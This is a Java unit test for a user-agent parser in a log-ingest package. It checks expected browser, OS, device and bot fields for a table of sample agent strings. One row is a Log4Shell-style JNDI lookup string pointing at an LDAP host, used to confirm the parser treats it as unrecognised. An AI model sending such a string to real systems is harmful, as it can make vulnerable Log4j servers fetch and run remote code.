package io.bongsu.ingest.parse;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class UserAgentTest {
    @ParameterizedTest
    @CsvSource(delimiter = '|', nullValues = "-", textBlock = """
            Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36               | Chrome                | 140.0.0.0   | Windows    | 10      | Other
            Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36 Edg/140.0.1.2 | Edge                  | 140.0.1.2   | Windows    | 10      | Other
            Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Whale/4.30.2.1 Safari/537.36            | Whale                 | 4.30.2.1    | Windows    | 10      | Other
            Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15         | Safari                | 18.1        | Mac OS X   | 10.15.7 | Mac
            Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML) Version/18.1 Mobile/15E148 Safari/604.1   | Mobile Safari         | 18.1        | iOS        | 18.1    | iPhone
            Mozilla/5.0 (Linux; Android 15; SM-S936N Build/AP3A; wv) AppleWebKit/537.36 Version/4.0 Chrome/140.0.1.2 Mobile Safari/537.36 | Chrome Mobile WebView | 140.0.1.2   | Android    | 15      | SM-S936N
            Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0                                                        | Firefox               | 140.0       | Linux      | -       | Other
            Mozilla/5.0 (Windows NT 6.1; rv:15.0) Gecko/20120716 Firefox/15.0a2                                                           | Firefox Alpha         | 15.0.a2     | Windows    | 7       | Other
            Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)                                                               | IE                    | 8.0         | Windows    | XP      | Other
            Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko                                                                 | IE                    | 11.0        | Windows    | 8.1     | Other
            Mozilla/5.0 (Windows NT; Windows NT 10.0; ko-KR) WindowsPowerShell/5.1.19041.1                                                | PowerShell            | 5.1.19041.1 | Windows    | 10      | Other
            Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)                                                      | Googlebot             | 2.1         | -          | -       | Spider
            Mozilla/5.0 (compatible; Facebot 1.0; https://example.net/crawler)                                                            | Facebot               | 1.0         | -          | -       | Spider
            Mozilla/5.0 (compatible; Yeti/1.1; +https://naver.me/spd)                                                                     | Yeti                  | 1.1         | -          | -       | Spider
            curl/8.9.1                                                                                                                    | curl                  | 8.9.1       | -          | -       | Other
            python-requests/2.32.3                                                                                                        | Python Requests       | 2.32.3      | -          | -       | Other
            Wget/1.20.3 (darwin18.6.0)                                                                                                    | Wget                  | 1.20.3      | -          | -       | Other
            ${jndi:ldap://203.0.113.9/a}                                                                                                  | Other                 | -           | -          | -       | Other
            """)
    void says_what_a_client_calls_itself(
            String agent, String name, String version, String system, String systemVersion, String device) {
        Map<String, Object> parts = UserAgent.parts(agent);

        assertThat(parts.get("user_agent.name")).isEqualTo(name);
        assertThat(parts.get("user_agent.version")).isEqualTo(version);
        assertThat(parts.get("user_agent.os.name")).isEqualTo(system);
        assertThat(parts.get("user_agent.os.version")).isEqualTo(systemVersion);
        assertThat(parts.get("user_agent.device.name")).isEqualTo(device);
    }

    @Test
    void leaves_what_the_log_names_and_gives_the_same_for_the_same_text() {
        Map<String, Object> named =
                new LinkedHashMap<>(Map.of("user_agent.original", "curl/8.9", "user_agent.name", "x"));
        Map<String, Object> first = new LinkedHashMap<>(Map.of("user_agent.original", "curl/8.9"));
        Map<String, Object> second = new LinkedHashMap<>(Map.of("user_agent.original", "curl/8.9"));

        UserAgent.put(named);
        UserAgent.put(first);
        UserAgent.put(second);

        assertThat(named).hasSize(2);
        assertThat(first).isEqualTo(second).containsEntry("user_agent.version", "8.9");
    }
}
